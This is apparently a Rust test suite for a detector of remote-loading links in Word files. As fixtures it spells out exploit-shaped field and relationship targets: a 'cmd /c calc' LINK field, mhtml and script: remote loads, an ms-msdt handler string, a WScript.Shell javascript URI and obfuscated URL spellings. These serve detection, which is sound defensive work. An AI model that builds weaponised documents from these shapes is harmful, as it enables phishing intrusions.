//! Links that are no DDE, row by row of the Word specification: fields (§6.1), relationships
//! (§1.7), OLE objects (§6.3), and its table of cases (§6.4). Each carrier has its own severity: a
//! local picture is information, a remote template is not.

mod support;

use ddetect::{Confidence, Finding, Report, Trigger, Verdict};
use support::analyze;
use support::docx::{begin, docx, end, instruction, paragraph, separate, text};
use support::package::rels;
use support::techniques;

use Verdict::{Clean, Malicious, Suspicious};

fn field(instruction_text: &str) -> Report {
    let runs = [
        begin(),
        instruction(instruction_text),
        separate(),
        text("x"),
        end(),
    ];
    analyze(&docx(&paragraph(&runs.concat())).build())
}

fn relationship(kind: &str, target: &str, external: bool) -> Report {
    let relations = rels(&[("r1", kind, target, external)]);
    let document = docx(&paragraph(&text("x")));
    analyze(
        &document
            .part("word/_rels/document.xml.rels", relations)
            .build(),
    )
}

fn only(report: &Report) -> &Finding {
    let [finding] = report.findings() else {
        panic!("{:#?}", report.findings())
    };
    finding
}

fn shows(finding: &Finding, rule: &str) -> bool {
    finding.signals.iter().any(|signal| signal.rule == rule)
}

/// `spec/word.md` §6.1 and §6.4: instruction, carrier, target, verdict.
#[test]
fn fields_that_load_or_lead_elsewhere() {
    for (instruction, carrier, target, verdict) in [
        // L01 to L04, L08, L10.
        (
            r#"LINK Word.Document.8 "http://x/a.doc" "" \a \f 0 \r"#,
            "link-field",
            "http://x/a.doc",
            Suspicious,
        ),
        (
            r#"INCLUDETEXT "\\\\host\\s\\a.docx" bm"#,
            "include-text",
            r"\\host\s\a.docx",
            Clean,
        ),
        (
            r#"INCLUDEPICTURE "http://x/a.png" \d"#,
            "include-picture",
            "http://x/a.png",
            Clean,
        ),
        (
            r#"DATABASE \c "DSN=x;DBQ=\\\\h\\s\\a.mdb" \s "SELECT *""#,
            "database-field",
            r"DSN=x;DBQ=\\h\s\a.mdb",
            Suspicious,
        ),
        (
            r#"HYPERLINK "https://example.com""#,
            "hyperlink",
            "https://example.com",
            Clean,
        ),
        (
            r#"IMPORT "http://x/a.wmf""#,
            "include-picture",
            "http://x/a.wmf",
            Clean,
        ),
        // The rows of §6.1, remote and odd.
        (
            r#"INCLUDETEXT "http://h.example/a.docx""#,
            "include-text",
            "http://h.example/a.docx",
            Suspicious,
        ),
        (
            r#"RD "http://h.example/a.docx""#,
            "rd-field",
            "http://h.example/a.docx",
            Clean,
        ),
        (
            r#"LINK Package "C:\\x\\a.exe""#,
            "link-field",
            r"C:\x\a.exe",
            Suspicious,
        ),
        (
            r#"LINK htmlfile "http://h.example/a.html""#,
            "link-field",
            "http://h.example/a.html",
            Malicious,
        ),
        (r#"LINK cmd "/c calc""#, "link-field", "/c calc", Malicious),
        (
            r#"LINK Word.Document.8 "mhtml:http://h/x.html!x-usc:http://h/x.html""#,
            "link-field",
            "mhtml:http://h/x.html!x-usc:http://h/x.html",
            Malicious,
        ),
        (
            r#"LINK Word.Document.8 "script:http://h/x.sct""#,
            "link-field",
            "script:http://h/x.sct",
            Malicious,
        ),
        (
            r#"DATABASE \d "http://h.example/a.mdb" \s "SELECT *""#,
            "database-field",
            "http://h.example/a.mdb",
            Suspicious,
        ),
        (
            r#"HYPERLINK "vbscript:msgbox(1)""#,
            "hyperlink",
            "vbscript:msgbox(1)",
            Suspicious,
        ),
        (
            r#"HYPERLINK "..\\..\\windows\\system32\\calc.exe""#,
            "hyperlink",
            r"..\..\windows\system32\calc.exe",
            Suspicious,
        ),
        // Their benign twins.
        (
            r#"LINK Excel.Sheet.12 "C:\\data\\a.xlsx" "Sheet1!R1C1" \a"#,
            "link-field",
            r"C:\data\a.xlsx",
            Clean,
        ),
        (
            r#"LINK Excel.Sheet "\\\\server\\s\\x.xlsx""#,
            "link-field",
            r"\\server\s\x.xlsx",
            Clean,
        ),
        (
            r#"INCLUDEPICTURE "C:\\a.png""#,
            "include-picture",
            r"C:\a.png",
            Clean,
        ),
        (
            r#"INCLUDETEXT "C:\\a.docx""#,
            "include-text",
            r"C:\a.docx",
            Clean,
        ),
        (
            r#"DATABASE \d "C:\\data\\a.mdb" \c "DSN=MS Access" \s "SELECT *""#,
            "database-field",
            r"C:\data\a.mdb",
            Clean,
        ),
        (r#"RD "a.docx""#, "rd-field", "a.docx", Clean),
        (
            r#"HYPERLINK "mailto:a@b.example""#,
            "hyperlink",
            "mailto:a@b.example",
            Clean,
        ),
        (
            r#"HYPERLINK "\\\\server\\share\\a.docx""#,
            "hyperlink",
            r"\\server\share\a.docx",
            Clean,
        ),
    ] {
        let report = field(instruction);
        let finding = only(&report);
        assert_eq!(finding.carrier.as_str(), carrier, "{instruction}");
        assert_eq!(finding.target.as_deref(), Some(target), "{instruction}");
        assert_eq!(report.verdict(), verdict, "{instruction} {finding:?}");
    }
    assert_eq!(
        only(&field(r#"LINK Word.Document.8 "http://x/a.doc" "" \a"#)).trigger,
        Trigger::Open
    );
    // L03: what the document knows of its reader goes into the address.
    let report = field(r#"INCLUDEPICTURE "http://x/{USERNAME}.png" \d"#);
    assert!(report.findings().iter().all(|f| f.score < 80));
}

/// `spec/word.md` §1.7: what each type of relationship does with a target on the web, on a server
/// of the intranet, and on this computer.
#[test]
fn relationships_by_type() {
    for (kind, carrier, web, intranet) in [
        ("attachedTemplate", "remote-template", Suspicious, Clean),
        ("oleObject", "ole-link", Suspicious, Clean),
        ("frame", "frame", Suspicious, Clean),
        ("subDocument", "sub-document", Suspicious, Clean),
        ("aFChunk", "alt-chunk", Suspicious, Clean),
        ("mailMergeSource", "mail-merge", Suspicious, Clean),
        ("mailMergeHeaderSource", "mail-merge", Suspicious, Clean),
        ("recipientData", "mail-merge", Suspicious, Clean),
        ("mailMergeRecipientData", "mail-merge", Suspicious, Clean),
        ("image", "include-picture", Clean, Clean),
        ("video", "include-picture", Clean, Clean),
        ("audio", "include-picture", Clean, Clean),
        ("hyperlink", "hyperlink", Clean, Clean),
        ("externalLinkPath", "external-workbook", Clean, Clean),
        ("package", "ole-package", Suspicious, Clean),
        ("control", "ole-package", Suspicious, Clean),
        // Parts of the document itself, which no program puts elsewhere.
        ("webSettings", "sub-document", Suspicious, Clean),
        ("officeDocument", "sub-document", Suspicious, Clean),
        ("transform", "sub-document", Suspicious, Clean),
        // A schema brings nothing into the document (§6.2).
        ("attachedSchema", "attachment-reference", Clean, Clean),
    ] {
        for (target, verdict) in [
            ("http://h.example/a", web),
            (r"\\h\s\a", intranet),
            (r"file:///C:\a.dotx", Clean),
        ] {
            for spelling in [target.to_owned(), format!(" {target} ")] {
                let report = relationship(kind, &spelling, true);
                let finding = only(&report);
                assert_eq!(finding.carrier.as_str(), carrier, "{kind}");
                assert_eq!(report.verdict(), verdict, "{kind} {target} {finding:?}");
            }
        }
    }
}

/// `spec/word.md` §1.7, §6.3, and L05, L06 of §6.4: shapes of exploits, with rules of their own.
#[test]
fn exploit_shapes_have_rules_of_their_own() {
    for (kind, target, rule, verdict) in [
        (
            "oleObject",
            "mhtml:http://h/x.html!x-usc:http://h/x.html",
            "mhtml-exploit",
            Malicious,
        ),
        (
            "oleObject",
            "https://h/RDF842l.html!",
            "object-exclamation",
            Malicious,
        ),
        (
            "hyperlink",
            "ms-msdt:/id PCWDiagnostic /param \"IT_RebrowseForFile=x\"",
            "msdt-handler",
            Malicious,
        ),
        ("oleObject", "ms-msdt:/id x", "msdt-handler", Malicious),
        ("image", "ms-msdt:/id x", "msdt-handler", Malicious),
        (
            "hyperlink",
            "ms-officecmd:x",
            "dangerous-scheme",
            Suspicious,
        ),
        (
            "hyperlink",
            r"search-ms:query=x&crumb=location:\\h.example\s",
            "dangerous-scheme",
            Suspicious,
        ),
        (
            "hyperlink",
            "mhtml:http://h.example/x",
            "dangerous-scheme",
            Suspicious,
        ),
        ("hyperlink", "vbscript:x", "dangerous-scheme", Suspicious),
        (
            "hyperlink",
            "javascript:new ActiveXObject('WScript.Shell').Run('calc')",
            "dangerous-scheme",
            Suspicious,
        ),
        (
            "hyperlink",
            "javascript:printversion=window.print();",
            "ordinary-hyperlink",
            Clean,
        ),
    ] {
        let report = relationship(kind, target, true);
        assert!(shows(only(&report), rule), "{kind} {target} {report:?}");
        assert_eq!(report.verdict(), verdict, "{kind} {target}");
    }
}

/// `spec/word.md` §1.7: an address is read however it is written.
#[test]
fn targets_are_read_in_every_spelling() {
    for target in [
        r"file:///\\h.example\s\a",
        r"\\h@SSL@443\DavWWWRoot\a",
        r"\\?\UNC\h.example\s\a",
        "http://office.com@h.example/a",
        r"http:\\h.example\a",
        "ht\ntp://h.example/a",
        "htt\tp://h.example/a",
        "http://3232235777/a",
        "http://0xC0A80101/a",
        "%68ttp://h.example/a",
        "%2568ttp://h.example/a",
        "%252568ttp://h.example/a",
        "HTTP://H.EXAMPLE/a",
    ] {
        let report = relationship("attachedTemplate", target, true);
        assert!(shows(only(&report), "remote-template"), "{target}");
        assert_eq!(report.verdict(), Suspicious, "{target}");
    }
}

/// `spec/word.md` §1.7: an internal relationship whose target leads out, with less confidence.
#[test]
fn internal_relationships_that_lead_out() {
    for kind in ["attachedTemplate", "oleObject", "frame", "styles"] {
        for target in [
            "http://h.example/a",
            r"\\h.example\s\a",
            "file://h.example/a",
        ] {
            let report = relationship(kind, target, false);
            let finding = only(&report);
            assert_eq!(finding.confidence, Confidence::Medium, "{kind} {target}");
            assert_eq!(report.verdict(), Suspicious, "{kind} {target}");
        }
    }
}

/// `spec/word.md` §6.3: the markup of an object says its class and when it is updated.
#[test]
fn objects_in_the_markup() {
    let o = "urn:schemas-microsoft-com:office:office";
    for (markup, verdict, rule) in [
        // CVE-2017-0199.
        (
            format!(
                r#"<o:OLEObject xmlns:o="{o}" Type="Link" ProgID="Word.Document.8" UpdateMode="Always" r:id="r1"/>"#
            ),
            Suspicious,
            "object-auto-update",
        ),
        // The markup says that it is embedded, and the relationship leads out.
        (
            format!(
                r#"<o:OLEObject xmlns:o="{o}" Type="Embed" ProgID="Excel.Sheet.12" r:id="r1"/>"#
            ),
            Suspicious,
            "remote-content",
        ),
        (
            r#"<w:objectLink w:progId="Word.Document.12" w:updateMode="always" r:id="r1"/>"#
                .to_owned(),
            Suspicious,
            "object-auto-update",
        ),
        (
            r#"<w:objectEmbed w:progId="htmlfile" r:id="r1"/>"#.to_owned(),
            Malicious,
            "html-object-link",
        ),
        (
            r#"<w:control w:name="x" r:id="r1"/>"#.to_owned(),
            Suspicious,
            "remote-content",
        ),
        // The switches of its field.
        (
            format!(
                r#"<o:OLEObject xmlns:o="{o}" Type="Link" ProgID="Word.Document.8" r:id="r1"><o:LinkType>Picture</o:LinkType><o:LockedField>false</o:LockedField><o:FieldCodes>&#92;a \f 0</o:FieldCodes></o:OLEObject>"#
            ),
            Suspicious,
            "object-auto-update",
        ),
        (
            r#"<w:objectLink w:progId="Word.Document.12" w:fieldCodes="\f 0 \a" r:id="r1"/>"#
                .to_owned(),
            Suspicious,
            "object-auto-update",
        ),
    ] {
        let body = paragraph(&format!("<w:r><w:object>{markup}</w:object></w:r>"));
        let relations = rels(&[("r1", "oleObject", "http://h.example/a", true)]);
        let document = docx(&body).part("word/_rels/document.xml.rels", relations);
        let report = analyze(&document.build());
        let finding = only(&report);
        assert_eq!(finding.carrier.as_str(), "ole-link");
        assert!(shows(finding, rule), "{markup} {finding:?}");
        assert_eq!(report.verdict(), verdict, "{markup}");
        assert_eq!(
            finding.location.path().last(),
            Some("word/document.xml"),
            "{markup}"
        );
        assert!(techniques(finding).is_empty());
    }
    // Locked: said.
    for markup in [
        format!(
            r#"<o:OLEObject xmlns:o="{o}" Type="Link" ProgID="Word.Document.8" UpdateMode="Always" r:id="r1"><o:LockedField>true</o:LockedField></o:OLEObject>"#
        ),
        r#"<w:objectLink w:progId="Word.Document.8" w:updateMode="always" w:lockedField="1" r:id="r1"/>"#.to_owned(),
    ] {
        let body = paragraph(&format!("<w:r><w:object>{markup}</w:object></w:r>"));
        let relations = rels(&[("r1", "oleObject", "http://h.example/a", true)]);
        let document = docx(&body).part("word/_rels/document.xml.rels", relations);
        let report = analyze(&document.build());
        assert_eq!(techniques(only(&report)), ["locked"]);
        assert!(shows(only(&report), "locked-field"));
    }
}
